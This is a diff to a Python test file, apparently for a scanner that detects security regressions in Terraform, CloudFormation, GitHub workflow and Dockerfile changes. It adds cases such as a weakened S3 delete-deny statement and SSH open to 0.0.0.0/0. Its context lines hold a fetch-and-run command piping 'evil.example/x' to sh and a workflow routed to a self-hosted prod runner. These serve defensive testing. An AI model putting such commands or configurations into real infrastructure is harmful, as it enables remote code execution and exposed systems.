@@ -335,6 +335,35 @@ FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER a
 Case = tuple[str, str, str, str]  # a file, its text in the base, what of it a push replaces, and by what
 
 
+DENYING = """data "aws_iam_policy_document" "d" {
+  statement {
+    actions   = ["s3:*"]
+    resources = ["*"]
+  }
+# more
+}
+resource "aws_iam_policy" "p" {
+  name   = "p"
+  policy = data.aws_iam_policy_document.d.json
+}
+"""
+_DENY = '{\n    effect    = "Deny"\n    actions   = ["s3:Delete*"]\n    resources = ["*"]\n  }'
+SURELY = f"  statement {_DENY}"
+PERHAPS = f'  dynamic "statement" {{\n    for_each = var.on ? [1] : []\n    content {_DENY}\n  }}'
+MANY_VALUES = ", ".join(["dev", *(f"s{number:02}" for number in range(80)), "prod"])
+CHOSEN = f"""Parameters:
+  Env: {{Type: String, Default: dev, AllowedValues: [{MANY_VALUES}]}}
+Conditions: {{P: !Equals [!Ref Env, prod]}}
+Resources:
+  # more
+  G:
+    Type: AWS::EC2::SecurityGroup
+    Properties:
+      GroupDescription: x
+      SecurityGroupIngress: [{{IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: !If [P, 10.0.0.0/8, 0.0.0.0/0]}}]
+"""
+
+
 def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
     """Return the cases of which a push that has all of them, each in a folder of its own, has a failure as new."""
     shop = workspace(folder / "shop", 'resource "aws_ebs_volume" "v" {\n  encrypted = true\n}\n')
@@ -407,6 +436,8 @@ DIRECTED: list[Case] = [
     ("a.yml", SIGNED, "ubuntu-latest", "[self-hosted, prod]"),
     ("a.yml", INJECTION, "runs-on: ubuntu-latest", "strategy: {matrix: {at: [prod]}}\n    runs-on: ${{ matrix.at }}"),
     ("a.yml", TAKEN, "run: make", f"run: make\n        {KEY}"),
+    *(("r.tf", DENYING.replace("# more", was), was, now) for was, now in ((SURELY, PERHAPS), (PERHAPS, ""))),
+    ("t.yaml", CHOSEN, "10.0.0.0/8", "0.0.0.0/0"),
     ("Dockerfile", STAGE, "python", "evil/python"),
     ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
 ]
@@ -457,6 +488,9 @@ HARMLESS: list[Case] = [
         "strategy: {matrix: {at: [macos-15]}}\n    runs-on: ${{ matrix.at }}",
     ),
     ("a.yml", RIGHTS, "run: make", "run: make test"),
+    ("r.tf", DENYING.replace("# more", PERHAPS), PERHAPS, SURELY),
+    ("r.tf", DENYING, "# more", PERHAPS),
+    ("t.yaml", CHOSEN, "# more", "T: {Type: AWS::SNS::Topic, Properties: {KmsMasterKeyId: k}}"),
     ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
 ]
 
